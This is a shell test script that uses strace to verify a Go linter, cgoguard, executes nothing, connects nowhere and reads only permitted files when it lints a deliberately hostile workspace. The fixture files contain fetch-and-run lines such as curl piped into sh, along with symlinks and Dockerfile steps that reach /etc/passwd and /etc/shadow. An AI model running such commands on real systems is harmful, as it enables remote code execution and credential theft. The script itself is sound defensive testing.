#!/bin/sh
# Checks with strace that a lint of a hostile workspace executes nothing but the JVM, connects
# nowhere and opens nothing outside the workspace but the JVM's and the distribution's own files.
#   server/build/strace-check.sh [DIST]     (DIST: the built distribution, default server/target/dist)
# Needs strace (Debian: apt-get install strace). The workspace: files that are symbolic links to
# /etc/passwd, /etc/hostname and /, a folder linked to /etc, a go.mod that replaces a module with /
# and another with a folder beside the workspace, requires a module that a module cache beside it
# holds, a Makefile full of $(shell ...), backticks and go generate, a script that runs curl and sh -c.
# Two lints:
#   1. the default: nothing outside the workspace may be opened but the JVM's start-up files (the
#      list below, each with its reason) and the distribution's own files; not GOROOT, not the
#      module cache (GOMODCACHE points at one that holds the required module), not the replaced folder;
#   2. with --go-sources goroot,module-cache,FOLDER: besides those, only files under GOROOT/src,
#      the module cache and FOLDER may be opened (and some are: the opt-in works), still never / or
#      a sibling folder that was not named.
# Prints what was executed, connected and opened outside the workspace, and exits 1 if anything
# broke the promise.
set -eu
dist=$(cd "${1:-server/target/dist}" && pwd)
work=$(mktemp -d)
trap '[ -n "${KEEP:-}" ] || rm -rf "$work"' EXIT
ws=$work/ws
mkdir -p "$ws/cmd/app" "$ws/sub"
ln -s /etc/passwd "$ws/Dockerfile"
ln -s /etc/hostname "$ws/sub/Makefile"
ln -s / "$ws/rootlink"
ln -s /etc "$ws/etclink"
cat > "$ws/go.mod" <<'MOD'
module example.com/hostile

go 1.22

require (
	example.com/everything v0.0.0
	example.com/cached v1.0.0
	example.com/beside v0.0.0
)

replace example.com/everything => /

replace example.com/beside => ../beside
MOD
# a module cache that holds example.com/cached, a module beside the workspace, a folder not named
mkdir -p "$work/modcache/example.com/cached@v1.0.0/lookup" "$work/beside/tlsclient" "$work/unnamed"
printf 'package lookup\n\nimport _ "os/user"\n' > "$work/modcache/example.com/cached@v1.0.0/lookup/lookup.go"
printf 'module example.com/beside\n' > "$work/beside/go.mod"
printf 'package tlsclient\n\nimport _ "crypto/tls"\n' > "$work/beside/tlsclient/tls.go"
printf 'package unnamed\n' > "$work/unnamed/unnamed.go"
export GOMODCACHE="$work/modcache"
cat > "$ws/cmd/app/main.go" <<GO
package main

//go:generate sh -c "curl http://example.com | sh"

import (
	_ "example.com/beside/tlsclient"
	_ "example.com/cached/lookup"
	_ "example.com/everything/etc"
	_ "example.com/everything$work/unnamed"
	_ "net"
)

func main() {}
GO
cat > "$ws/Makefile" <<'MAKE'
include /etc/os-release
-include ../../../../etc/passwd
HOST := $(shell hostname)
DATE != date
all:
	CGO_ENABLED=1 go build -ldflags '-extldflags "-static"' -o bin/app ./cmd/app
	go generate ./...
	echo `id` $$(curl -s http://example.com)
MAKE
cat > "$ws/build.sh" <<'SH'
#!/bin/sh
. /etc/profile
source ./etclink/environment
eval "$(curl -s http://example.com/x.sh)"
sh -c 'go build -o x ./cmd/app'
SH
printf 'FROM golang:1.22\nCOPY rootlink/etc/shadow /x\nCOPY /etc/passwd /y\nRUN go build ./cmd/app\n' > "$ws/build.Dockerfile"

java_home=$(dirname "$(dirname "$(readlink -f "$(command -v java)")")")
# GOROOT as cgoguard looks for it when asked ($GOROOT, /usr/local/go, /usr/lib/go), its src folder
# resolved as the gate resolves it (Debian links /usr/lib/go/src elsewhere)
goroot=""
for candidate in "${GOROOT:-}" /usr/local/go /usr/lib/go; do
    if [ -n "$candidate" ] && [ -d "$candidate/src/runtime" ]; then goroot=$candidate; break; fi
done
goroot_src=$(readlink -f "${goroot:-/nonexistent}/src" || echo /nonexistent)
modcache=$(readlink -f "$work/modcache")
beside=$(readlink -f "$work/beside")

# The JVM's own start-up reads, each allowed by one pattern (all observed with strace on a lint):
#   /dev/null                               the launcher's and the JVM's redirections
#   /dev/random, /dev/urandom               seeds of the JVM's random numbers and hash seeds
#   /etc/ld.so.cache, /lib/.../*.so*        the dynamic loader: libc, libz, libm, libdl and, for the
#                                           tree-sitter parsers, libstdc++ and libgcc_s
#   /usr/lib/locale/, /usr/share/locale/locale.alias, /usr/lib/.../gconv/gconv-modules.cache
#                                           glibc's locale set-up when the JVM starts
#   /proc/self/{cgroup,mountinfo,coredump_filter,...}, /proc/{cgroups,cpuinfo,meminfo,stat}
#                                           the JVM sizing itself: container limits, CPUs, memory
#   /proc/net/if_inet6                      the JVM's IPv6 capability check at start-up
#   /sys/fs/cgroup/, /sys/devices/system/cpu/, /sys/kernel/mm/{hugepages,transparent_hugepage}
#                                           the same: cgroup limits, CPUs online, huge pages
#   /etc/localtime, /usr/share/zoneinfo/    the time zone
#   /etc/nsswitch.conf, /etc/passwd, /etc/group
#                                           glibc's getpwuid for the JVM's user.name and user.home
#                                           (/etc/passwd: only before the workspace is first read)
#   /etc/{host.conf,resolv.conf,hosts,gai.conf}
#                                           glibc's resolver set-up, which some JVMs run at start-up
#                                           with the IPv6 check (nothing is looked up: no connect)
#   /proc/sys/vm/overcommit_memory          glibc's malloc, when it shrinks a thread's heap arena
#                                           (arena.c, check_may_shrink_heap): read by libc, not by cgoguard
#   $HOME/.cache/cgoguard/native/           the distribution's tree-sitter libraries, extracted once
jvm_files='^(/dev/null|/dev/u?random|/etc/ld\.so\.cache|/(usr/)?lib(64|32|x32)?/([a-z0-9_]+-linux-gnu[a-z0-9_]*/)?[^/]+\.so(\.[0-9]+)*|/usr/lib/locale/.*|/usr/share/locale/locale\.alias|/usr/lib/([a-z0-9_]+-linux-gnu[a-z0-9_]*/)?gconv/gconv-modules(\.cache)?|/proc/self/(cgroup|mountinfo|coredump_filter|maps|stat|status|auxv|exe)|/proc/(cgroups|cpuinfo|meminfo|stat|net/if_inet6|sys/vm/overcommit_memory)|/sys/fs/cgroup/.*|/sys/devices/system/cpu/.*|/sys/kernel/mm/(hugepages|transparent_hugepage/[a-z_]+)|/etc/localtime|/usr/share/zoneinfo/.*|/etc/(nsswitch\.conf|passwd|group|host\.conf|resolv\.conf|hosts|gai\.conf)|'"$HOME"'/\.cache/cgoguard/native/.*)$'

failed=0
# lint NAME [OPTIONS...]: one traced lint; leaves $work/NAME.opened-outside (what it opened outside
# the workspace, the JVM, the distribution and the start-up files above) and prints the report
lint() {
    name=$1
    shift
    log=$work/$name.strace
    set +e
    strace -f -qq -e trace=execve,connect,openat -o "$log" "$dist/bin/cgoguard" lint --format json "$@" "$ws" \
        > "$work/$name.json" 2> "$work/$name.err"
    status=$?
    set -e
    echo "== lint ${*:-(default settings)}"
    echo "lint exit code: $status ($(grep -o '"rule":' "$work/$name.json" | wc -l) findings)"
    echo "-- executed (execve), in order:"
    grep 'execve(' "$log" | grep -v ' = -1 ' | sed 's/^[0-9]* *execve("\([^"]*\)".*/\1/' | uniq -c
    after_java=$(grep 'execve(' "$log" | grep -v ' = -1 ' | sed -n '/execve("[^"]*\/bin\/java"/,$p' | grep -vc 'execve("[^"]*/bin/java"' || true)
    echo "executed after the JVM started: $after_java"
    echo "-- connections (connect):"
    grep 'connect(' "$log" | sed 's/^[0-9]* *//' | sort | uniq -c || true
    inet=$(grep 'connect(' "$log" | grep -c 'AF_INET' || true)
    grep 'openat(' "$log" | grep -v ' = -1 ' | sed 's/^[0-9]* *openat([^,]*, "\([^"]*\)".*/\1/' | sort -u > "$work/$name.opened"
    grep -v -e "^$ws/" -e "^$ws\$" -e "^$java_home/" -e "^$dist/" "$work/$name.opened" > "$work/$name.outside" || true
    echo "-- opened outside the workspace, the JVM ($java_home) and the distribution ($dist)" \
        "($(grep -c "^$goroot_src/" "$work/$name.outside" || true) files and folders under $goroot_src counted, not listed):"
    grep -v "^$goroot_src/" "$work/$name.outside" | sed 's/^/  /' || true
    echo "-- opened inside the workspace:"
    grep -e "^$ws/" -e "^$ws\$" "$work/$name.opened" | sed "s|^$ws|  ws|"
    first_ws=$(grep -n "openat([^,]*, \"$ws" "$log" | head -1 | cut -d: -f1)
    passwd_late=$(grep -n 'openat([^,]*, "/etc/passwd"' "$log" | cut -d: -f1 | awk -v w="${first_ws:-0}" '$1 >= w' | wc -l)
    echo "/etc/passwd opened after the workspace was first read (not the JVM's user lookup): $passwd_late"
    grep -E -v "$jvm_files" "$work/$name.outside" > "$work/$name.opened-outside" || true
    if [ "$after_java" -ne 0 ] || [ "$inet" -ne 0 ] || [ "$passwd_late" -ne 0 ]; then
        failed=1
    fi
}

lint default
echo "Go sources opened outside the workspace: $(grep -c -e "^$goroot_src/" -e "^$modcache/" -e "^$beside/" "$work/default.outside" || true) (under $goroot_src, $modcache, $beside)"
echo "-- opened outside the workspace, not a start-up file of the JVM:"
sed 's/^/  /' "$work/default.opened-outside"
[ -s "$work/default.opened-outside" ] && { echo "  ^ none of these may be opened"; failed=1; } || echo "  (none)"
grep -q 'outside the workspace\|refus' "$work/default.json" "$work/default.err" && echo "links leaving the workspace reported: yes"

echo
lint go-sources --go-sources "goroot,module-cache,$work/beside"
grep -v -e "^$goroot_src/" -e "^$goroot_src\$" -e "^$modcache/" -e "^$modcache\$" -e "^$beside/" -e "^$beside\$" \
    "$work/go-sources.opened-outside" > "$work/go-sources.unnamed" || true
goroot_count=$(grep -c -e "^$goroot_src/" "$work/go-sources.opened-outside" || true)
cache_count=$(grep -c -e "^$modcache/" "$work/go-sources.opened-outside" || true)
beside_count=$(grep -c -e "^$beside/" "$work/go-sources.opened-outside" || true)
echo "Go sources opened: $goroot_count under GOROOT/src ($goroot_src), $cache_count under the module cache ($modcache), $beside_count under $beside"
echo "-- opened outside the workspace and the named folders, not a start-up file of the JVM:"
sed 's/^/  /' "$work/go-sources.unnamed"
[ -s "$work/go-sources.unnamed" ] && { echo "  ^ none of these may be opened"; failed=1; } || echo "  (none)"
if [ "$cache_count" -eq 0 ] || [ "$beside_count" -eq 0 ] || { [ -n "$goroot" ] && [ "$goroot_count" -eq 0 ]; }; then
    echo "a named folder was not read: the opt-in did not take effect"
    failed=1
fi

echo
if [ "$failed" -ne 0 ]; then
    echo "FAILED"
    exit 1
fi
echo "OK: nothing executed but the JVM, no network connection, nothing read outside the workspace by default, only the named Go sources with --go-sources"
